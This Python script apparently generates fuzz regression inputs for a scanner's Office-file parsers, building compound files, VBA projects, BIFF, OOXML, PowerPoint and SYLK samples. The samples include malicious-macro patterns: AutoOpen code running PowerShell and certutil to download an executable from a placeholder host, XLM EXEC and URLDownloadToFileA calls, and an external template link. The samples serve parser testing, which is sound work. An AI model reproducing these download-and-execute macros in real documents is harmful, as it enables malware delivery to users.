#!/usr/bin/env python3
# make-regress.py - write the generated replay inputs of the Office
# harnesses into tests/fuzz/regress/{ole,vba,ooxml,biff,office}/.
#
#   python3 tests/fuzz/make-regress.py [TOPDIR]
#
# Every file is built here from the format specifications ([MS-CFB],
# [MS-OVBA], [MS-XLS], [MS-PPT], ECMA-376, SYLK), small (a few KB), and
# written only if its content changed; files not made here (inputs that
# once crashed a harness) are never touched. The outputs are committed,
# so make check needs no Python; run this again after changing it.
#
# Each input aims at one path of a parser: a well-formed file the parser
# reads to the end, and broken copies where it must stop (a truncated
# compound file, a FAT loop, a directory cycle, a bad chunk header, a
# copy token reaching before its chunk, a BIFF record running off the
# end...).
import io
import os
import struct
import sys
import zipfile
import zlib

TOP = sys.argv[1] if len(sys.argv) > 1 else \
    os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "..")
OUT = os.path.join(TOP, "tests", "fuzz", "regress")

OLE_MAGIC = bytes.fromhex("d0cf11e0a1b11ae1")
END, FREE, FATSECT, NOSTREAM = 0xFFFFFFFE, 0xFFFFFFFF, 0xFFFFFFFD, 0xFFFFFFFF


def put(kind, name, data):
    d = os.path.join(OUT, kind)
    os.makedirs(d, exist_ok=True)
    p = os.path.join(d, name)
    if os.path.exists(p):
        with open(p, "rb") as f:
            if f.read() == data:
                return
    with open(p, "wb") as f:
        f.write(data)
    print("wrote %s/%s (%d bytes)" % (kind, name, len(data)))


# ---- [MS-OVBA] 2.4.1 compression -------------------------------------------

def copy_bits(done):
    n = 4
    while (1 << n) < done:
        n += 1
    return min(n, 12)


def ovba_compress(data):
    """A CompressedContainer with real copy tokens (greedy longest match)."""
    out = bytearray([0x01])
    for cs in range(0, max(len(data), 1), 4096):
        chunk = data[cs:cs + 4096]
        body = bytearray()
        pos = 0
        while pos < len(chunk):
            fpos = len(body)
            body.append(0)
            flags = 0
            for bit in range(8):
                if pos >= len(chunk):
                    break
                best, boff = 0, 0
                if pos > 0:
                    nb = copy_bits(pos)
                    maxlen = (0xFFFF >> nb) + 3
                    for cand in range(pos - 1, -1, -1):
                        n = 0
                        while (pos + n < len(chunk) and n < maxlen and
                               chunk[cand + n] == chunk[pos + n]):
                            n += 1
                        if n > best:
                            best, boff = n, pos - cand
                if best >= 3:
                    nb = copy_bits(pos)
                    body += struct.pack("<H", ((boff - 1) << (16 - nb)) |
                                        (best - 3))
                    flags |= 1 << bit
                    pos += best
                else:
                    body.append(chunk[pos])
                    pos += 1
            body[fpos] = flags
        out += struct.pack("<H", 0xB000 | (len(body) + 2 - 3)) + body
    return bytes(out)


# ---- the VBA dir stream ([MS-OVBA] 2.3.4.2) ---------------------------------

def rec(rid, payload):
    return struct.pack("<HI", rid, len(payload)) + payload


def u16(s):
    return s.encode("utf-16-le")


def vba_dir(modules, codepage=1252, name=b"Project"):
    """modules: (name bytes in codepage, unicode name or None, stream,
    offset, is_document)."""
    d = rec(0x0001, struct.pack("<I", 1))          # PROJECTSYSKIND win32
    d += rec(0x0002, struct.pack("<I", 0x409))     # PROJECTLCID
    d += rec(0x0014, struct.pack("<I", 0x409))     # PROJECTLCIDINVOKE
    d += rec(0x0003, struct.pack("<H", codepage))  # PROJECTCODEPAGE
    d += rec(0x0004, name)                         # PROJECTNAME
    d += rec(0x0005, b"") + rec(0x0040, b"")       # PROJECTDOCSTRING
    d += rec(0x0006, b"") + rec(0x003D, b"")       # PROJECTHELPFILEPATH
    d += rec(0x0007, struct.pack("<I", 0))         # PROJECTHELPCONTEXT
    d += rec(0x0008, struct.pack("<I", 0))         # PROJECTLIBFLAGS
    # PROJECTVERSION: Reserved says 4, then 6 bytes follow.
    d += struct.pack("<HI", 0x0009, 4) + struct.pack("<IH", 0x5A0B6B1D, 0x11)
    d += rec(0x000F, struct.pack("<H", len(modules)))  # PROJECTMODULES
    d += rec(0x0013, struct.pack("<H", 0xFFFF))        # PROJECTCOOKIE
    for mname, uname, stream, off, doc in modules:
        d += rec(0x0019, mname)
        if uname is not None:
            d += rec(0x0047, u16(uname))
        d += rec(0x001A, stream.encode("latin-1"))
        d += rec(0x0032, u16(stream))
        d += rec(0x001C, b"") + rec(0x0048, b"")   # MODULEDOCSTRING
        d += rec(0x0031, struct.pack("<I", off))   # MODULEOFFSET
        d += rec(0x001E, struct.pack("<I", 0))     # MODULEHELPCONTEXT
        d += rec(0x002C, struct.pack("<H", 0xFFFF))
        d += rec(0x0022 if doc else 0x0021, b"")   # MODULETYPE
        d += rec(0x002B, b"")                      # terminator
    d += rec(0x0010, b"")                          # end of dir
    return d


MODULE1 = (b'Attribute VB_Name = "Module1"\r\n'
           b"Sub AutoOpen()\r\n"
           b'    Set o = CreateObject("WScript.Shell")\r\n'
           b'    o.Run "powershell -EncodedCommand " & Chr(65) & Chr(66), 0\r\n'
           b'    Shell "cmd /c certutil -urlcache -f '
           b'http://example.invalid/a.exe %TEMP%\\a.exe"\r\n'
           b"End Sub\r\n"
           b"Sub AutoOpen()\r\n"          # repeated text: long copy tokens
           b'    Set o = CreateObject("WScript.Shell")\r\n'
           b"End Sub\r\n")
THISDOC = (b'Attribute VB_Name = "ThisDocument"\r\n'
           b'Attribute VB_Base = "1Normal.ThisDocument"\r\n'
           b"Private Sub Document_Open()\r\n    AutoOpen\r\nEnd Sub\r\n")
# A p-code cache stand-in before the source: MODULEOFFSET skips it.
PCODE = bytes(range(16))


def vba_storage(prefix="VBA", codepage=1252):
    """The streams of a VBA project under prefix ("VBA", "Macros/VBA")."""
    if codepage == 932:
        mods = [("モジュール1".encode("cp932"), None, "Module1", len(PCODE),
                 False),
                (b"ThisDocument", "ThisDocument", "ThisDocument", 0, True)]
    else:
        mods = [(b"Module1", "Module1", "Module1", len(PCODE), False),
                (b"ThisDocument", "ThisDocument", "ThisDocument", 0, True)]
    base = prefix.rsplit("/", 1)[0] + "/" if "/" in prefix else ""
    return [
        (prefix + "/dir", ovba_compress(vba_dir(mods, codepage))),
        (prefix + "/Module1", PCODE + ovba_compress(MODULE1)),
        (prefix + "/ThisDocument", ovba_compress(THISDOC)),
        (prefix + "/_VBA_PROJECT", bytes([0xCC, 0x61, 0xFF, 0xFF, 0x00,
                                          0x00, 0x00])),
        (base + "PROJECT", b'ID="{00000000-0000-0000-0000-000000000000}"\r\n'
         b"Document=ThisDocument/&H00000000\r\nModule=Module1\r\n"
         b'Name="Project"\r\n'),
    ]


# ---- [MS-CFB] compound files --------------------------------------------------

class Node:
    def __init__(self, name, kind, data=b""):
        self.name, self.kind, self.data = name, kind, data
        self.children = []
        self.id = 0


def cfb(streams, ssz=512):
    """A version 3 compound file holding streams [(path, data)]: streams
    below 4096 bytes in the mini stream, the others in regular sectors.
    Siblings are chained through their right links (the reader does not
    need the red-black tree balanced)."""
    root = Node("Root Entry", 5)
    for path, data in streams:
        cur = root
        parts = path.split("/")
        for p in parts[:-1]:
            nxt = [c for c in cur.children if c.name == p and c.kind == 1]
            if not nxt:
                nxt = [Node(p, 1)]
                cur.children.append(nxt[0])
            cur = nxt[0]
        cur.children.append(Node(parts[-1], 2, data))
    order = [root]
    for n in order:
        for c in n.children:
            c.id = len(order)
            order.append(c)

    # The mini stream and its FAT.
    ministream = bytearray()
    minifat = []
    big = []
    for n in order:
        if n.kind != 2:
            continue
        if len(n.data) < 4096:
            n.start = len(ministream) // 64 if n.data else END
            k = (len(n.data) + 63) // 64
            for i in range(k):
                minifat.append(n.start + i + 1 if i + 1 < k else END)
            ministream += n.data + b"\0" * (k * 64 - len(n.data))
        else:
            big.append(n)
    per = ssz // 4
    ndir = (len(order) * 128 + ssz - 1) // ssz
    nmf = (len(minifat) * 4 + ssz - 1) // ssz
    nms = (len(ministream) + ssz - 1) // ssz
    nbig = sum((len(n.data) + ssz - 1) // ssz for n in big)
    nfat = 1
    while nfat * per < nfat + ndir + nmf + nms + nbig:
        nfat += 1
    assert nfat <= 109
    fat = [FREE] * (nfat * per)
    s = 0
    for i in range(nfat):
        fat[s] = FATSECT
        s += 1

    def chain(count):
        nonlocal s
        first = s if count else END
        for i in range(count):
            fat[s] = s + 1 if i + 1 < count else END
            s += 1
        return first

    dir_start = chain(ndir)
    mf_start = chain(nmf)
    ms_start = chain(nms)
    for n in big:
        n.start = chain((len(n.data) + ssz - 1) // ssz)

    def entry(n):
        name = u16(n.name)[:62]
        e = bytearray(128)
        e[0:len(name)] = name
        struct.pack_into("<H", e, 0x40, len(name) + 2)
        e[0x42] = n.kind
        e[0x43] = 1
        struct.pack_into("<III", e, 0x44, NOSTREAM, NOSTREAM, NOSTREAM)
        return e

    dirb = bytearray()
    for n in order:
        e = entry(n)
        if n.children:
            struct.pack_into("<I", e, 0x4C, n.children[0].id)
        for i, c in enumerate(n.children[:-1]):
            c.right = n.children[i + 1].id
        if n is root:
            struct.pack_into("<II", e, 0x74, ms_start if ministream else END,
                             len(ministream))
        elif n.kind == 2:
            struct.pack_into("<II", e, 0x74, n.start, len(n.data))
        dirb += e
    for n in order:
        if getattr(n, "right", None) is not None:
            struct.pack_into("<I", dirb, n.id * 128 + 0x48, n.right)
    while len(dirb) < ndir * ssz:
        e = bytearray(128)
        struct.pack_into("<III", e, 0x44, NOSTREAM, NOSTREAM, NOSTREAM)
        dirb += e

    h = bytearray(512)
    h[0:8] = OLE_MAGIC
    struct.pack_into("<HHHHH", h, 0x18, 0x3E, 3, 0xFFFE, 9, 6)
    struct.pack_into("<I", h, 0x2C, nfat)
    struct.pack_into("<I", h, 0x30, dir_start)
    struct.pack_into("<I", h, 0x38, 4096)
    struct.pack_into("<II", h, 0x3C, mf_start if minifat else END, nmf)
    struct.pack_into("<II", h, 0x44, END, 0)
    for i in range(109):
        struct.pack_into("<I", h, 0x4C + 4 * i, i if i < nfat else FREE)

    def pad(b):
        return bytes(b) + b"\0" * (-len(b) % ssz)

    body = b"".join(struct.pack("<I", v) for v in fat)
    body += pad(dirb)
    body += pad(b"".join(struct.pack("<I", v) for v in minifat)
                + struct.pack("<I", FREE) * ((-len(minifat)) % per))
    body += pad(ministream)
    for n in big:
        body += pad(n.data)
    return bytes(h) + body, {"ssz": ssz, "nfat": nfat, "dir": dir_start,
                             "order": order, "big": big}


def sector_off(s, ssz=512):
    return (s + 1) * ssz


# ---- BIFF ([MS-XLS]) ----------------------------------------------------------

def brec(rtype, payload):
    return struct.pack("<HH", rtype, len(payload)) + payload


def bof(dt, vers=0x0600):
    return brec(0x0809, struct.pack("<HHHHII", vers, dt, 0x0DBB, 0x07CC,
                                    0, 0x0206))


def boundsheet8(name, dt, hidden=0, wide=False, biff8=True):
    """BoundSheet8 (BIFF8: cch, fHighByte, chars) or BoundSheet (BIFF5:
    cch, Latin-1 chars)."""
    if wide:
        s = bytes([len(name), 1]) + u16(name)
    elif biff8:
        s = bytes([len(name), 0]) + name.encode("latin-1")
    else:
        s = bytes([len(name)]) + name.encode("latin-1")
    return brec(0x0085, struct.pack("<IBB", 0, hidden, dt) + s)


def lbl_builtin(code, biff8=True):
    # grbit fBuiltin (0x20), chKey, cch 1, cce 0, reserved, itab, 4 bytes
    # of reserved lengths, (BIFF8) fHighByte, then the built-in name code.
    return brec(0x0018, struct.pack("<HBBHHH", 0x0020, 0, 1, 0, 0, 0)
                + bytes(4) + (b"\0" if biff8 else b"") + bytes([code]))


def lbl_name(name):
    return brec(0x0018, struct.pack("<HBBHHH", 0, 0, len(name), 0, 0, 0)
                + bytes(4) + b"\0" + name.encode("latin-1"))


def workbook_stream():
    g = bof(0x0005)
    g += brec(0x0042, struct.pack("<H", 1200))        # CodePage
    g += boundsheet8("Sheet1", 0)
    g += boundsheet8("Macro1", 1, hidden=1)            # a hidden macro sheet
    g += boundsheet8("請求書マクロ", 1, hidden=2, wide=True)
    g += boundsheet8("Module1", 6)                     # a VBA module sheet
    g += lbl_builtin(0x01)                             # Auto_Open
    g += lbl_name("auto_open2")
    g += lbl_name("Print_Area")
    g += brec(0x000A, b"")                             # EOF
    sheet = bof(0x0010) + brec(0x000A, b"")
    macro = bof(0x0040) + brec(0x0006, bytes(20)) + brec(0x000A, b"")
    return g + sheet + macro + macro


# ---- the inputs ------------------------------------------------------------

def ole_inputs():
    big = bytes((i * 7 + 3) & 0xFF for i in range(4200))
    tiny, info = cfb([("Small", b"small stream " * 8),
                      ("Big", big),
                      ("Store/Inner", "ストレージの中".encode("utf-16-le")),
                      ("Store/Empty", b""),
                      ("\x01CompObj", b"\x01\xfe\x00\x00" + bytes(24)),
                      ("\x05SummaryInformation", bytes(48))])
    put("ole", "tiny.ole", tiny)
    # Truncated inside the big stream's sectors: reads come back short.
    put("ole", "truncated.ole", tiny[:len(tiny) - 2000])
    # Only the header: no sector follows.
    put("ole", "header-only.ole", tiny[:512])
    # A sector shift out of range.
    bad = bytearray(tiny[:1024])
    struct.pack_into("<H", bad, 0x1E, 20)
    put("ole", "bad-shift.ole", bytes(bad))
    # The big stream's FAT chain loops back on itself after two sectors.
    loop = bytearray(tiny)
    b = [n for n in info["big"] if n.name == "Big"][0]
    struct.pack_into("<I", loop, 512 + 4 * (b.start + 1), b.start)
    put("ole", "fat-loop.ole", bytes(loop))
    # Directory cycle: the first child's left link points at the root's
    # child chain again, and a storage's child at itself.
    cyc = bytearray(tiny)
    d = sector_off(info["dir"])
    first = info["order"][1].id
    struct.pack_into("<I", cyc, d + first * 128 + 0x44, first)
    store = [n for n in info["order"] if n.name == "Store"][0]
    struct.pack_into("<I", cyc, d + store.id * 128 + 0x4C, store.id)
    put("ole", "dir-cycle.ole", bytes(cyc))
    # No root entry: the first directory entry is empty.
    noroot = bytearray(tiny)
    noroot[d + 0x42] = 0
    put("ole", "no-root.ole", bytes(noroot))
    # Stream sizes past the file and a start sector past the FAT.
    huge = bytearray(tiny)
    small = [n for n in info["order"] if n.name == "Small"][0]
    struct.pack_into("<I", huge, d + small.id * 128 + 0x78, 0x7FFFFFF0)
    struct.pack_into("<I", huge, d + b.id * 128 + 0x74, 0x00FFFFFF)
    put("ole", "bad-sizes.ole", bytes(huge))
    vba, _ = cfb(vba_storage("VBA"))
    put("ole", "vba-project.ole", vba)
    return vba


def vba_inputs():
    put("vba", "module.bin", ovba_compress(MODULE1))
    mods = [(b"Module1", "Module1", "Module1", 16, False),
            ("モジュール2".encode("cp932"), None, "Module2", 0, False),
            (b"ThisDocument", "ThisDocument", "ThisDocument", 0, True)]
    d = vba_dir(mods, codepage=932)
    put("vba", "dir.bin", ovba_compress(d))
    # Uncompressed: the harness also parses the raw input as a dir
    # stream; cut inside the last module record.
    put("vba", "dir-raw-cut.bin", d[:-20])
    # A module record without the streams: lenient stream names.
    put("vba", "dir-no-stream.bin",
        rec(0x0003, struct.pack("<H", 65001)) +
        rec(0x0019, "Módulo".encode("utf-8")) + rec(0x002B, b"") +
        rec(0x0019, b"") + rec(0x0010, b""))
    # A good first chunk, then a chunk header without the 0b011 signature.
    two = ovba_compress(MODULE1 * 40)
    first_len = (struct.unpack_from("<H", two, 1)[0] & 0x0FFF) + 3
    bad = bytearray(two)
    struct.pack_into("<H", bad, 1 + first_len, 0x8000 | 0x0123)
    put("vba", "bad-chunk-header.bin", bytes(bad[:1 + first_len + 64]))
    # A copy token first in a chunk: nothing before it to copy.
    put("vba", "bad-copy-offset.bin",
        bytes([0x01]) + struct.pack("<H", 0xB000 | 3) + bytes([0x01]) +
        struct.pack("<H", 0x1234) + b"x")
    # A raw (uncompressed) chunk, cut short by the end of the input.
    put("vba", "raw-chunk.bin", bytes([0x01]) + struct.pack("<H", 0x3FFF) +
        b"Attribute VB_Name = \"Raw\"\r\nSub Auto_Open()\r\nEnd Sub\r\n")
    # A copy token cut in half at the end of the chunk.
    c = bytearray(ovba_compress(b"abcabcabcabcabcabc"))
    put("vba", "cut-token.bin", bytes(c[:-1]))
    # No signature byte.
    put("vba", "no-signature.bin", b"\x00" + ovba_compress(MODULE1)[1:])


def ooxml_parts():
    doc = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\r\n'
           '<w:document xmlns:w="http://schemas.openxmlformats.org/'
           'wordprocessingml/2006/main"><w:body>'
           '<w:p><w:r><w:t>請求書を添付します。</w:t></w:r></w:p>'
           '<w:p><w:r><w:t xml:space="preserve">Enable &amp; '
           'Content&#x30D1;&#12473;&#xD800;&#0;&#1114112;&bogus;</w:t>'
           '<w:tab/><w:t>パスワード：Abc123</w:t><w:br/></w:r></w:p>'
           '<!-- <w:t>hidden</w:t> -->'
           '<w:p><w:r><w:instrText>HYPERLINK "http://x.invalid"'
           '</w:instrText><w:t/></w:r></w:p>'
           '</w:body></w:document>')
    rels = ('<?xml version="1.0" encoding="UTF-8"?>\r\n'
            '<Relationships xmlns="http://schemas.openxmlformats.org/'
            'package/2006/relationships">'
            '<Relationship Id="rId1" Type="http://schemas.microsoft.com/'
            'office/2006/relationships/vbaProject" Target="vbaProject.bin"/>'
            '<Relationship Id="rId2" Type="http://schemas.openxmlformats.org/'
            'officeDocument/2006/relationships/attachedTemplate" '
            'Target="http://template.invalid/t.dotm?a=1&amp;b=2" '
            'TargetMode="External"/>'
            "<Relationship Id='rId3' Type='http://schemas.openxmlformats.org/"
            "officeDocument/2006/relationships/oleObject' "
            "Target='file:///\\\\host\\share\\x.doc' TargetMode='External'/>"
            '<Relationship Id="rId4" Type="http://schemas.openxmlformats.org/'
            'officeDocument/2006/relationships/hyperlink" '
            'Target="https://example.invalid/" TargetMode="external"/>'
            '<Relationship Id="rId5" Type="x" Target="unterminated'
            '</Relationships>')
    workbook = ('<?xml version="1.0" encoding="UTF-8"?>'
                '<workbook xmlns="http://schemas.openxmlformats.org/'
                'spreadsheetml/2006/main"><sheets>'
                '<sheet name="Sheet1" sheetId="1" r:id="rId1"/></sheets>'
                '<definedNames>'
                '<definedName name="_xlnm.Auto_Open" hidden="1">'
                'Macro1!$A$1</definedName>'
                '<definedName name="auto_open&#x31;">Macro1!$A$2'
                '</definedName>'
                '<definedName name=\'Print_Area\'>Sheet1!$A$1</definedName>'
                '<definedName name="x>y"/>'
                '</definedNames></workbook>')
    macro = ('<?xml version="1.0" encoding="UTF-8"?>'
             '<xm:macrosheet xmlns:xm="http://schemas.microsoft.com/office/'
             'excel/2006/main"><sheetData>'
             '<row r="1"><c r="A1"><f>EXEC("cmd /c calc")</f></c></row>'
             '<row r="2"><c r="A2"><f>CALL("urlmon","URLDownloadToFileA",'
             '"JJCCJJ",0,"http://example.invalid/a","c:\\a.dll",0,0)</f>'
             '</c></row><row r="3"><c r="A3"><f>HALT()</f></c></row>'
             '</sheetData></xm:macrosheet>')
    shared = ('<?xml version="1.0" encoding="UTF-8"?>'
              '<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/'
              '2006/main" count="3" uniqueCount="3">'
              '<si><t>コンテンツの有効化をクリックしてください</t></si>'
              '<si><r><t>富士</t></r><r><t>山</t></r></si>'
              '<si><t>𠮷野家 &lt;ok&gt;</t></si></sst>')
    broken = ('<w:t>open<w:t>nested</w:t <w:p attr="unclosed>'
              '<!-- comment without end <w:t>x</w:t>'
              '<Relationship Target="a" Type=\'b\' TargetMode="External"'
              '<definedName name="auto_open">&#x;&#;&#xFFFFFFFFFF;&am'
              '<f>1+')
    return {"document.xml": doc, "document.xml.rels": rels,
            "workbook.xml": workbook, "macrosheet.xml": macro,
            "sharedStrings.xml": shared, "broken.xml": broken}


def ooxml_inputs(parts):
    for name, text in parts.items():
        put("ooxml", name, text.encode("utf-8"))
    # Not UTF-8: Shift_JIS bytes and a lone continuation byte.
    put("ooxml", "sjis.xml", b"<w:t>" + "請求書".encode("cp932") +
        b"\x80</w:t><Relationship Target=\"\xff\xfe\" "
        b"TargetMode=\"External\"/>")


def zipped(members):
    b = io.BytesIO()
    with zipfile.ZipFile(b, "w") as z:
        for name, data in members:
            zi = zipfile.ZipInfo(name, (1980, 1, 1, 0, 0, 0))
            zi.compress_type = zipfile.ZIP_DEFLATED
            z.writestr(zi, data, compresslevel=9)
    return b.getvalue()


CT = ('<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.'
      'openxmlformats.org/package/2006/content-types">'
      '<Default Extension="bin" ContentType="application/'
      'vnd.ms-office.vbaProject"/>'
      '<Override PartName="/word/document.xml" ContentType="application/'
      'vnd.ms-word.document.macroEnabled.main+xml"/></Types>')
ROOT_RELS = ('<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns='
             '"http://schemas.openxmlformats.org/package/2006/relationships">'
             '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/'
             'officeDocument/2006/relationships/officeDocument" '
             'Target="word/document.xml"/></Relationships>')


def ppt_document(inner):
    """A "PowerPoint Document" stream: some records, a compressed
    ExOleObjStg ([MS-PPT] 2.10.34) holding inner and an uncompressed one
    holding the smallest compound file."""
    z = zlib.compress(inner, 9)
    comp = struct.pack("<BBHI", 0x10, 0x00, 0x1011, 4 + len(z)) + \
        struct.pack("<I", len(inner)) + z
    small = cfb([("x", b"y")])[0]
    plain = struct.pack("<BBHI", 0x00, 0x00, 0x1011, len(small)) + small
    text = struct.pack("<HHI", 0, 0x0FA0, 0) + \
        "スライドのテキスト Click to enable".encode("utf-16-le")
    # A record claiming more than the stream holds, then the good ones.
    liar = struct.pack("<BBHI", 0x10, 0x00, 0x1011, 0x7FFFFFFF)
    return text + liar + comp + plain


def office_inputs(vba_ole, parts):
    put("office", "vbaProject.bin", vba_ole)
    word_fib = struct.pack("<HHHHHH", 0xA5EC, 0x00C1, 0, 0x0409, 0, 0x0000)
    word_text = "請求書をご確認ください。コンテンツの有効化".encode("utf-16-le")
    doc, _ = cfb([("WordDocument", word_fib + bytes(20) + word_text),
                  ("1Table", bytes(64))] + vba_storage("Macros/VBA", 932))
    put("office", "word-macros.doc", doc)
    enc_fib = struct.pack("<HHHHHH", 0xA5EC, 0x00C1, 0, 0x0409, 0, 0x0100)
    enc, _ = cfb([("WordDocument", enc_fib + bytes(64)), ("1Table", b"x")])
    put("office", "word-encrypted.doc", enc)
    xls, _ = cfb([("Workbook", workbook_stream())] +
                 vba_storage("_VBA_PROJECT_CUR/VBA"))
    put("office", "excel-xlm.xls", xls)
    fp = bof(0x0005) + brec(0x002F, struct.pack("<HHH", 1, 2, 2)) + \
        boundsheet8("Hidden", 1) + brec(0x000A, b"") + bof(0x0040) + \
        brec(0x000A, b"")
    xls_enc, _ = cfb([("Workbook", fp)])
    put("office", "excel-rc4.xls", xls_enc)
    cu = struct.pack("<IIII", 0x14, 0, 0, 0xE391C05F) + bytes(8)
    ppt, _ = cfb([("PowerPoint Document", ppt_document(vba_ole)),
                  ("Current User", cu)])
    put("office", "ppt-embedded.ppt", ppt)
    agile = struct.pack("<HHI", 4, 4, 0x40) + \
        b'<?xml version="1.0"?><encryption/>'
    pkg, _ = cfb([("EncryptionInfo", agile),
                  ("EncryptedPackage", struct.pack("<Q", 4096) + bytes(64))])
    put("office", "encrypted-package.docx", pkg)
    docm = zipped([("[Content_Types].xml", CT), ("_rels/.rels", ROOT_RELS),
                   ("word/document.xml", parts["document.xml"]),
                   ("word/_rels/document.xml.rels",
                    parts["document.xml.rels"]),
                   ("word/vbaProject.bin", vba_ole),
                   ("word/embeddings/oleObject1.bin",
                    cfb([("\x01Ole10Native", b"\x10\0\0\0payload.js\0")])[0])])
    put("office", "macro.docm", docm)
    xlsm = zipped([("[Content_Types].xml", CT),
                   ("xl/workbook.xml", parts["workbook.xml"]),
                   ("xl/macrosheets/sheet1.xml", parts["macrosheet.xml"]),
                   ("xl/sharedStrings.xml", parts["sharedStrings.xml"])])
    put("office", "xlm.xlsm", xlsm)
    put("office", "macro.slk", SYLK)


SYLK = (b"ID;PWXL;N;E\r\nP;PGeneral\r\nO;L;D;V0;K47;G100 0.001;E\r\n"
        b"NN;NAuto_Open;ER1C1\r\nNN;Nauto_close_x;ER2C1\r\n"
        b'C;X1;Y1;K0;EEXEC("cmd /c calc")\r\nC;X1;Y2;K0;EHALT()\r\n'
        b"C;X2;Y1;K\"text\"\r\nE\r\n")


def biff_inputs(vba_ole):
    put("biff", "boundsheet-macro.bin", workbook_stream())
    biff5 = bof(0x0005, vers=0x0500) + brec(0x002F, struct.pack("<H", 0)) + \
        boundsheet8("Macro1", 1, biff8=False) + brec(0x000A, b"") + \
        bof(0x0040, vers=0x0500) + brec(0x000A, b"")
    put("biff", "biff5-xor.bin", biff5)
    put("biff", "biff8-rc4.bin", bof(0x0005) +
        brec(0x002F, struct.pack("<HHH", 1, 1, 1)) + brec(0x000A, b""))
    b4 = struct.pack("<HHHH", 0x0409, 4, 0, 0x0040) + \
        lbl_builtin(0x0A, biff8=False) + brec(0x000A, b"")
    put("biff", "biff4-macro.bin", b4)
    overrun = bof(0x0005) + boundsheet8("Macro1", 1) + \
        struct.pack("<HH", 0x0085, 300) + b"Macro2"
    put("biff", "record-overrun.bin", overrun)
    put("biff", "short-records.bin", bof(0x0005) + brec(0x0085, b"\0" * 7) +
        brec(0x0018, b"\x20\0\0\x01" + bytes(10)) + brec(0x0809, b"\0\0"))
    put("biff", "macro.slk", SYLK)
    put("biff", "ppt-document.bin", ppt_document(vba_ole))
    runs = b"\x00" + "請求書 Invoice ΑΒΓΔ Привет".encode("utf-16-le") + \
        b"\x01\x02" + "Caf\xe9 cr\xe8me br\xfbl\xe9e".encode("cp1252") + \
        b"\x00\x81\x8d\x8f\x90\x9d" * 2
    put("biff", "text-runs.bin", runs)


def main():
    vba_ole = ole_inputs()
    vba_inputs()
    parts = ooxml_parts()
    ooxml_inputs(parts)
    biff_inputs(vba_ole)
    office_inputs(vba_ole, parts)


main()
